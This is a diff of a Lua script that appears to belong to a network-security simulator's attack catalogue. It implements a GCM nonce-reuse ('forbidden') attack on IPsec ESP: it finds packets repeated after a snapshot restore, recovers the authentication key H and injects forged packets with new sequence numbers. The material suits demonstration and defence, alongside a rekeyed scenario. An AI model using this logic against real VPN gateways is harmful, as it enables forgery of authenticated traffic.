@@ -1,7 +1,7 @@
 -- AES-GCM wants each nonce once. ESP counts, so that it is; but a virtual machine that is set back to a snapshot counts the same numbers again, under the
 -- same key. Two packets under one nonce give an equation for the key that GCM authenticates with, H, and nothing else is unknown in it:
 --   ICV + ICV' = sum of (block + block') * H^k   over the blocks of header, ciphertext and lengths, in GF(2^128).
--- Its solutions are few, and a second pair says which one is H. With H anybody can make an ICV that fits.
+-- Its solutions are few, and other pairs, or a try, say which one is H. With H anybody can make an ICV that fits.
 attack = {
   id = "A27", name = "nonce-reuse",
   about = "Finds ESP packets under a nonce that was used twice, computes GCM's authentication key from them, and forges a packet",
@@ -9,7 +9,7 @@ attack = {
   needs = "to hear the packets before and after a gateway is set back to a snapshot; no key",
   source = "RFC 4106, 3.1; Joux, Authentication Failures in NIST version of GCM (2006); catalogue A27",
   shows = {
-    vulnerable = "two pairs of packets give H: a packet with a sequence number that was never sent is accepted and answered",
+    vulnerable = "pairs of packets give H: a packet with a sequence number that was never sent is accepted and answered",
     hardened = "the gateway takes new keys before it sends: no nonce comes twice, and there is no equation",
   },
   scenarios = { vulnerable = "nonce-reuse", hardened = "nonce-reuse-rekeyed" },
@@ -20,7 +20,8 @@ local from, solve = "gw-a", "9500ms"
 local goal = "forge an ESP packet without its key"
 local zero, one = ("\0"):rep(16), "\128" .. ("\0"):rep(15)
 local seen, pairs_found, highest = {}, {}, {}
-local h, forged
+local candidates, tried, forged = {}, 0, nil
+local heard, keys = 0, 0
 
 function on_start(params)
   from, solve = params.from or from, params.solve or solve
@@ -31,12 +32,15 @@ on({ protocol = "ESP" }, function(p)
   if forged and p.from ~= from then
     if not forged.answered then
       forged.answered = true
+      learn("H", "the key that GCM authenticates with", "the solution of the equation of two packets under one nonce whose ICV was accepted", forged.h)
       achieved(goal, true, "the packet with sequence number " .. forged.sequence .. ", which " .. from .. " never sent, was accepted and answered")
     end
     return
   end
   local header = esp.header(p.payload)
   if not header or p.from ~= from or #p.payload < 33 then return end
+  heard = heard + 1
+  if not highest[header.spi] then keys = keys + 1 end
   highest[header.spi] = math.max(highest[header.spi] or 0, header.sequence)
   local key = header.spi .. ":" .. header.sequence
   local before = seen[key]
@@ -153,30 +157,36 @@ local function next_split(f)
   work.first = false
 end
 
-local function finish()
-  for _, root in ipairs(work.roots) do
-    local fits = true
-    for i = 2, math.min(#pairs_found, 4) do
-      local pair = pairs_found[i]
-      if pair.spi == pairs_found[1].spi and value(sum(polynomial(pair[1]), polynomial(pair[2])), root) ~= zero then fits = false end
-    end
-    if fits then h = root end
-  end
-  if not h then return achieved(goal, false, "no solution fits all pairs") end
-  learn("H", "the key that GCM authenticates with, of SA " .. pairs_found[1].spi, "one of " .. #work.roots ..
-    " solutions of the equation of two packets under one nonce, and the one that " .. (math.min(#pairs_found, 4) - 1) .. " more pairs confirm", h)
-  -- The packet with another sequence number: its plaintext is what it was, and its ICV is ours.
+-- A packet under another sequence number: its plaintext is what it was, and its ICV is made with this solution. The right one is answered.
+local function try_next()
   local pair = pairs_found[1]
-  local sequence = highest[pair.spi] + 5
+  tried = tried + 1
+  local h = candidates[tried]
+  if not h then return achieved(goal, false, "no solution makes an ICV that fits") end
+  local sequence = highest[pair.spi] + 4 + tried
   local old = pair[1]
   local new = old:sub(1, 4) .. string.pack(">I4", sequence) .. old:sub(9)
   local a, b = polynomial(old), polynomial(new)
   a[0], b[0] = zero, zero
   local icv = gcm.add(old:sub(-16), gcm.add(value(a, h), value(b, h)))
-  forged = { sequence = sequence }
-  mark("mallory has H: it sends a packet that " .. from .. " never sent, with an ICV that fits.")
+  forged = { sequence = sequence, h = h }
+  if tried == 1 then mark("mallory has " .. #candidates .. " candidate" .. (#candidates > 1 and "s" or "") .. " for H, and sends packets that " .. from .. " never sent.") end
   inject{ src = pair.packet.src, dst = pair.packet.dst, protocol = "ESP", to = pair.packet.to, payload = new:sub(1, -17) .. icv,
-    note = "packet " .. pair.sequence .. " under the new sequence number " .. sequence .. ", ICV made with H" }
+    note = "packet " .. pair.sequence .. " under the new sequence number " .. sequence .. ", ICV made with solution " .. tried }
+  timer.after("250ms", "try")
+end
+
+local function finish()
+  for _, root in ipairs(work.roots) do
+    local fits = true
+    for i = 2, #pairs_found do
+      local pair = pairs_found[i]
+      if pair.spi == pairs_found[1].spi and value(sum(polynomial(pair[1]), polynomial(pair[2])), root) ~= zero then fits = false end
+    end
+    if fits then candidates[#candidates + 1] = root end
+  end
+  say("solutions: " .. #work.roots .. "; of these solve the equations of all " .. #pairs_found .. " pairs: " .. #candidates)
+  try_next()
 end
 
 local function step()
@@ -224,8 +234,13 @@ end
 
 function on_timer(label)
   if label == "step" then return step() end
-  if #pairs_found < 2 then
-    return achieved(goal, false, #pairs_found == 0 and "no nonce was used twice" or "one pair only: nothing confirms a solution")
+  if label == "try" then
+    if not forged.answered then try_next() end
+    return
+  end
+  if #pairs_found == 0 then
+    say(heard .. " packets of " .. from .. " heard, under " .. keys .. " keys one after another; every number came once")
+    return achieved(goal, false, "no nonce was used twice")
   end
   -- The pair with the shortest equation goes first.
   local function degree(pair) return sum(polynomial(pair[1]), polynomial(pair[2])).n end
@@ -239,5 +254,5 @@ function on_timer(label)
 end
 
 function on_finish()
-  if forged and not forged.answered then achieved(goal, false, "the forged packet was not answered") end
+  if forged and not forged.answered and candidates[tried] then achieved(goal, false, "no forged packet was answered") end
 end
